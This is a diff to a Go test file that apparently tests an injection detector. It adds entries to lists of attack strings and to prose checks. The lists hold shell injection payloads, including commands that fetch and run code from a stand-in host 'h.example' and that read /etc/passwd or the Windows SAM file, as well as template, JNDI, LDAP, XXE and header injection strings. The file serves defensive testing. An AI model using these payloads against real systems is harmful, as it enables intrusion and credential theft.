@@ -29,7 +29,7 @@ var attacks = map[Kind][]string{
 	},
 	Shell: {
 		`; cat /etc/passwd`, `| whoami`, `a && curl http://h.example/x | sh`, "`id`", `$(id)`, `;c'a't /et"c"/passwd`, `x|/bin/ls -al`, `() { :; }; /bin/bash -c id`, `;getent$IFS$9hosts`, `& ping -c 3 127.0.0.1 &`,
-		"\nid\n", `; sleep 10`, `|| wget http://h.example/a -O /tmp/a`, `a;{curl,h.example}`, `--exec=id`, `& type %SYSTEMROOT%\repair\SAM`, `;python3 -c 'x'`, `<(curl h.example)`,
+		"\nid\n", `; sleep 10`, `|| wget http://h.example/a -O /tmp/a`, `a;{curl,h.example}`, `--exec=id`, `& type %SYSTEMROOT%\repair\SAM`, `| set /a 2*3`, `;python3 -c 'x'`, `<(curl h.example)`,
 	},
 	Template: {
 		`{{7*7}}`, `${7*7}`, `#{6*7}`, `<%= 7*7 %>`, `{{config.items()}}`, `{{ ''.__class__.__mro__ }}`, `{% for c in [].__class__.__base__.__subclasses__() %}`, `${jndi:ldap://h.example/a}`, `${T(java.lang.Runtime)}`,
@@ -47,7 +47,7 @@ var attacks = map[Kind][]string{
 	},
 	LDAP:   {`*)(uid=*))(|(uid=*`, `*(|(objectclass=*))`, `(&(uid=root)(!(a=b)))`, `cn:2.5.13.2:=x`, `admin)(&(password=*)`},
 	XML:    {`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, `<!--#exec cmd="id" -->`, `<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="f"/></a>`, `+ADwAIQ-DOCTYPE a+AFs +ADwAIQ-ENTITY b SYSTEM +ACI-x+ACI +AD4AXQA+`},
-	Header: {"x\r\nSet-Cookie: a=b", "x\nLocation: //h.example", "x%0d%0aContent-Length:%200", "\r\nRCPT TO: <a@h.example>\r\n", "\nA7 LOGOUT\n", "嘊嘍Set-Cookie:a=b"},
+	Header: {"x\r\nSet-Cookie: a=b", "x\nLocation: //h.example", "x%0d%0aContent-Length:%200", "\r\nRCPT TO: <a@h.example>\r\n", "\nA7 LOGOUT\n", "DQpRVUlUDQo", "嘊嘍Set-Cookie:a=b"},
 }
 
 func TestAttacks(t *testing.T) {
@@ -113,12 +113,12 @@ func TestHonest(t *testing.T) {
 }
 
 func TestProse(t *testing.T) {
-	for _, text := range []string{"union was a great select", "john+or@var.es", "JavaScript: Basics of the language", "zsh is the best!", "12, Rue de l'Eglise (2nd floor)", "ls 300 lexus", "Anna, Ben and Carl; see you", "3.5 or 4", "well-known"} {
+	for _, text := range []string{"union was a great select", "john+or@var.es", "JavaScript: Basics of the language", "zsh is the best!", "12, Rue de l'Eglise (2nd floor)", "ls 300 lexus", "Anna, Ben and Carl; see you", "3.5 or 4", "well-known", "union%20was%20a%20great%20select"} {
 		if !Prose(text) {
 			t.Errorf("%q is no prose", text)
 		}
 	}
-	for _, text := range []string{"", "1 union select users from password", "a=b", "' or 1", "x'", "-1", "a;b", "a; drop table x--", "(a", "a)", "sleep(5)", "a\"b", "<b>", "a/b", "a\\b", "a|b", "$a", "--", "a -- b", "1 or 1=1", "a(b)", "' '"} {
+	for _, text := range []string{"", "1 union select users from password", "a=b", "' or 1", "x'", "-1", "a;b", "a; drop table x--", "(a", "a)", "sleep(5)", "a\"b", "<b>", "a/b", "a\\b", "a|b", "$a", "--", "a -- b", "1 or 1=1", "a(b)", "1%20union%20select%20users%20from%20password", "a%3Db", "100%", "a%2520b", "' '"} {
 		if Prose(text) {
 			t.Errorf("%q is prose", text)
 		}
